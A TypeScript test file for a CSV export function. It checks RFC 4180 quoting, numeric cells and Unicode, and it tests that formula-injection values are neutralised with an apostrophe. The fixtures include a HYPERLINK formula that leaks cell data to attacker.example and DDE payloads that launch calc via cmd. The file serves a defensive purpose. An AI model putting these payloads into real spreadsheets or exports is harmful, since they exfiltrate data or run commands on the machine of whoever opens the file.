import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

describe('toCsv', () => {
  it('quotes per RFC 4180 with CRLF line ends', () => {
    const text = toCsv(['a', 'b,c'], [
      ['plain', 'has "quotes"'],
      ['line one\nline two', 'a,b\r\nc'],
      [null, undefined]
    ]);
    expect(text).toBe('a,"b,c"\r\nplain,"has ""quotes"""\r\n"line one\nline two","a,b\r\nc"\r\n,\r\n');
  });

  // bad-csv fixture 28: id numeric, campaign and note text; rows as the importer hands them over.
  it('guards formula injection in text cells, not in numeric cells (fixture 28)', () => {
    const rows: [number, string, string][] = [
      [1, '=HYPERLINK("https://attacker.example/?x="&A1;"click")', 'ok'],
      [2, "+cmd|' /C calc'!A0", 'ok'],
      [3, '-2+3', 'ok'],
      [4, "@SUM(1+1)*cmd|' /C calc'!A0", 'ok'],
      [5, '\t=1+1', 'ok'],
      [6, '=1+1', 'ok'],
      [7, '=1+1', 'ok'],
      [8, '-5', 'negative number must stay numeric']
    ];
    const lines = toCsv([{ name: 'id', type: 'number' }, 'campaign', 'note'], rows).split('\r\n');
    expect(lines).toEqual([
      'id,campaign,note',
      `1,"'=HYPERLINK(""https://attacker.example/?x=""&A1;""click"")",ok`,
      "2,'+cmd|' /C calc'!A0,ok",
      "3,'-2+3,ok",
      "4,'@SUM(1+1)*cmd|' /C calc'!A0,ok",
      "5,'\t=1+1,ok",
      "6,'=1+1,ok",
      "7,'=1+1,ok",
      "8,'-5,negative number must stay numeric",
      ''
    ]);
  });

  it('writes numbers unprefixed: JS numbers, and numeric text in a numeric column', () => {
    const text = toCsv([{ name: 'n', type: 'number' }, 'x', { name: 'big', type: 'number' }], [
      [-5, -2.5, '-12345678901234567890'],
      [0, -0.001, '=1+1']
    ]);
    expect(text).toBe("n,x,big\r\n-5,-2.5,-12345678901234567890\r\n0,-0.001,'=1+1\r\n");
  });

  it('guards a cell starting with CR and quotes it', () => {
    expect(toCsv(['c'], [['\r=1']])).toBe(`c\r\n"'\r=1"\r\n`);
  });

  it('takes rows as objects keyed by column name and guards risky headers', () => {
    expect(toCsv(['=h', 'b'], [{ '=h': 'x', b: true }, { b: false }])).toBe("'=h,b\r\nx,true\r\n,false\r\n");
  });

  it('keeps emoji and RTL text byte-identical', () => {
    const s = '👨‍👩‍👧 مرحبا \u202Eevil\u202C';
    expect(toCsv(['s'], [[s]])).toBe(`s\r\n${s}\r\n`);
  });
});
